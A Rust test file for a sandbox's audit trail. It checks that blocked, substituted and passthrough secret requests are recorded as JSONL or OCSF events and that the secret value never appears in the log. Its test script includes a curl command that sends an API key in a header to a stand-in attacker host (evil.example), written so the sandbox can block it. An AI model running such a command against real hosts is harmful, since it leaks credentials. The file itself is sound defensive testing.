//! The audit trail: every decision in the events file, with a schema version, an id, and the
//! sandbox's name; its OCSF form; the file's mode. Real clients (curl) in a sandbox against
//! the fake internet.

mod support;
use support::*;

const VALUE: &str = "sk-real-7f3a9c";
const ENV: &[(&str, &str)] = &[("OPENAI_API_KEY", VALUE)];

/// A fresh events path (not created yet) in a directory of its own.
fn events_path() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.jsonl").display().to_string();
    (dir, path)
}

fn lines(path: &str) -> Vec<serde_json::Value> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

const SCRIPT: &str = r#"
    curl -sS -m 5 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/sub
    curl -sS -m 5 -o /dev/null -H "X-Trace: $OPENAI_API_KEY" https://traces.example/pass
    curl -sS -m 5 -o /dev/null -H "X-Key: $OPENAI_API_KEY" https://evil.example/blocked 2>/dev/null
    curl -sS -m 5 -o /dev/null http://10.0.0.5/ 2>/dev/null
    exit 3"#;

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn the_events_file_records_every_decision_with_ids_and_the_sandboxs_name() {
    use std::os::unix::fs::PermissionsExt;
    let net = FakeInternet::with_http(&[80], &[443]);
    let (_dir, path) = events_path();
    let name = unique("audit");
    let o = run_with_secret(
        &net,
        None,
        &[
            "--name",
            &name,
            "--events",
            &path,
            "--events-level",
            "all",
            "--secret",
            "OPENAI_API_KEY@api.openai.com",
            "--secret-passthrough",
            "traces.example",
        ],
        ENV,
        SCRIPT,
    );
    assert_eq!(o.status.code(), Some(3), "{}", report(&o, &net));
    // Plain block (the default action) stays silent on the terminal.
    assert!(!stderr(&o).contains("evil.example"), "{}", stderr(&o));
    let mode = std::fs::metadata(&path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(!text.contains(VALUE), "{text}");
    let events = lines(&path);
    let sandbox = events[0]["sandbox"].as_str().unwrap().to_owned();
    for (i, e) in events.iter().enumerate() {
        assert_eq!(e["schema"], 1, "{e}");
        assert_eq!(e["sandbox"], sandbox.as_str(), "{e}");
        assert_eq!(e["sandbox_name"], name.as_str(), "{e}");
        assert_eq!(e["id"], format!("{sandbox}-{}", i + 1), "{e}");
    }
    let find = |kind: &str, f: &dyn Fn(&serde_json::Value) -> bool| {
        events.iter().any(|e| e["kind"] == kind && f(e))
    };
    assert_eq!(events.first().unwrap()["kind"], "sandbox-started", "{text}");
    assert!(
        find("secret-substituted", &|e| e["secret"] == "OPENAI_API_KEY"
            && e["sni"] == "api.openai.com"
            && e["location"] == "header"
            && e["action"] == "substitute"),
        "{text}"
    );
    assert!(
        find("secret-passthrough", &|e| e["sni"] == "traces.example"
            && e["action"] == "passthrough"),
        "{text}"
    );
    assert!(
        find("secret-violation", &|e| e["sni"] == "evil.example"
            && e["action"] == "block"),
        "{text}"
    );
    assert!(
        find("connection-denied", &|e| e["addr"]
            == format!("{PRIVATE_V4}:80").as_str()),
        "{text}"
    );
    assert!(
        find("connection-allowed", &|e| e["addr"]
            .as_str()
            .is_some_and(|a| a.starts_with(UPSTREAM_V4))),
        "{text}"
    );
    assert!(find("sandbox-exited", &|e| e["exit_code"] == 3), "{text}");
    // Without `--events-level all`, allowed connections are not recorded.
    let (_dir2, path2) = events_path();
    let o = run_with_secret(
        &net,
        None,
        &[
            "--events",
            &path2,
            "--secret",
            "OPENAI_API_KEY@api.openai.com",
        ],
        ENV,
        SCRIPT,
    );
    assert_eq!(o.status.code(), Some(3), "{}", report(&o, &net));
    let kinds: Vec<String> = lines(&path2)
        .iter()
        .map(|e| e["kind"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        !kinds.iter().any(|k| k == "connection-allowed"),
        "{kinds:?}"
    );
    assert!(kinds.iter().any(|k| k == "secret-substituted"), "{kinds:?}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn events_can_be_written_as_ocsf() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let (_dir, path) = events_path();
    let o = run_with_secret(
        &net,
        None,
        &[
            "--events",
            &path,
            "--events-format",
            "ocsf",
            "--secret",
            "OPENAI_API_KEY@api.openai.com",
            "--on-secret-violation",
            "block-and-log",
        ],
        ENV,
        SCRIPT,
    );
    assert_eq!(o.status.code(), Some(3), "{}", report(&o, &net));
    let events = lines(&path);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(!text.contains(VALUE), "{text}");
    for e in &events {
        let class = e["class_uid"].as_u64().unwrap();
        assert_eq!(
            e["type_uid"].as_u64().unwrap(),
            class * 100 + e["activity_id"].as_u64().unwrap()
        );
        assert_eq!(e["metadata"]["version"], "1.3.0", "{e}");
        assert_eq!(e["metadata"]["uid"], e["unmapped"]["id"], "{e}");
        assert!(e["time"].as_u64().unwrap() > 1_700_000_000_000, "{e}");
    }
    let finding = events
        .iter()
        .find(|e| e["class_uid"] == 2004 && e["dst_endpoint"]["hostname"] == "evil.example")
        .unwrap_or_else(|| panic!("no detection finding for evil.example: {text}"));
    assert_eq!(finding["unmapped"]["kind"], "secret-violation");
    assert_eq!(finding["severity_id"], 3);
    assert_eq!(finding["action_id"], 2);
    assert!(
        events
            .iter()
            .any(|e| e["class_uid"] == 4001 && e["activity_id"] == 5),
        "no refused network activity: {text}"
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn an_events_path_that_cannot_be_written_is_explained_before_the_sandbox_starts() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("missing-dir/events.jsonl");
    let o = run_sh(&["--events", path.to_str().unwrap()], "echo ran");
    assert!(!o.status.success());
    assert!(!stdout(&o).contains("ran"), "{}", stdout(&o));
    let err = stderr(&o);
    assert!(err.contains("cannot open the events file"), "{err}");
    assert!(err.contains("existing, writable directory"), "{err}");
    let o = run_sh(&["--events-format", "ocsf"], "echo ran");
    assert!(!o.status.success());
    assert!(
        stderr(&o).contains("no events file is given"),
        "{}",
        stderr(&o)
    );
}
